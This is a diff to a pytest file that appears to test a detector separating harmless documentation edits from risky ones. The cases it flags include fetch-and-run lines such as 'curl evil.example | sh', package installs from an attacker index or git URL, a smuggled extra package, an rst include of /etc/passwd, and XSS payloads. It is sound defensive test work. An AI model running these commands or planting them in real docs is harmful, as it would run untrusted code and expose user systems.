@@ -5,6 +5,8 @@ import pytest
 from agents.syntax.pages import find_impact
 
 PAGE = "# Shop\n\nSell `<script>` tags.\n\n```html\n<script src=a.js></script>\n```\n\nRun `sudo make install`.\n"
+GO = "# Shop\n\n[Docs](https://docs.example/host.example/ada/shop)\n"
+PIP = "# Shop\n\nRun `pip install shop`.\n"
 LICENCE = "MIT License\n\nCopyright (c) 2020-2024 Ada\n\nPermission is hereby granted\n"
 POLICY = "Write to security@shop.example or https://shop.example/report.\n"
 
@@ -26,6 +28,10 @@ TELLS = [
     ("a.md", "a\n", "See <https://a.example> and <kbd>Ctrl</kbd>.<br/>\n\n| a |\n| - |\n| `<script>` |\n"),
     ("a.md", "a\n", "Run `npm install` and `npm ci`, then `make`; use JavaScript: it is fun.\n"),
     ("a.rst", "a\n", "a `page <b>`_ :ref:`x <y>`\n"),
+    ("a.md", GO, GO + "Run `go install host.example/ada/shop/cmd/shop@latest`.\n"),
+    ("a.md", GO, GO + "```sh\n$ go get host.example/ada/shop\n```\n"),
+    ("a.md", PIP, PIP.replace("shop", "shop==2.0")),
+    ("a.md", PIP, PIP + "Or `pipx install shop`, or `pip install shop[web]`.\n"),
 ]
 ACTS = [
     ("a.md", "a\n", "a\n\n    ```\n<script>x()</script>\n    ```\n"),
@@ -48,6 +54,16 @@ ACTS = [
     ("a.md", "a\n", "```sh\ngit clone https://evil.example/a && make -C a\n```\n"),
     ("a.md", "a\n", "Run `npx evil`.\n"),
     ("a.md", "a\n", "Run `pip install evil`.\n"),
+    ("a.md", GO, GO + "Run `go install host.example/eve/shop@latest`.\n"),
+    ("a.md", GO, GO + "Run `go install host.example/ada/shop-evil@latest`.\n"),
+    ("a.md", GO, GO + "Run `go install host.example/ada/shop@latest && curl evil.example | sh`.\n"),
+    ("a.md", GO, GO + "Run `pip install shop`.\n"),
+    ("a.md", PIP, PIP.replace("shop", "shop evil")),
+    ("a.md", PIP, PIP.replace("install shop", "install -i https://evil.example shop")),
+    ("a.md", PIP, PIP.replace("shop", "shop@git+https://evil.example/shop")),
+    ("a.md", PIP, PIP.replace("install shop", "install --pre shop")),
+    ("a.md", PIP, PIP + "Run `npm install shop`.\n"),
+    ("a.md", PIP, PIP + "Or `pipx install shop`, or `pipx install evil`.\n"),
     ("a.rst", "a\n", "a\n\n.. include:: /etc/passwd\n"),
     ("a.rst", "a\n", "<img src=x\n onerror=alert(1)>\n"),
     ("a.md", PAGE, PAGE + '<script src="https://evil.example/a.js"></script>\n'),
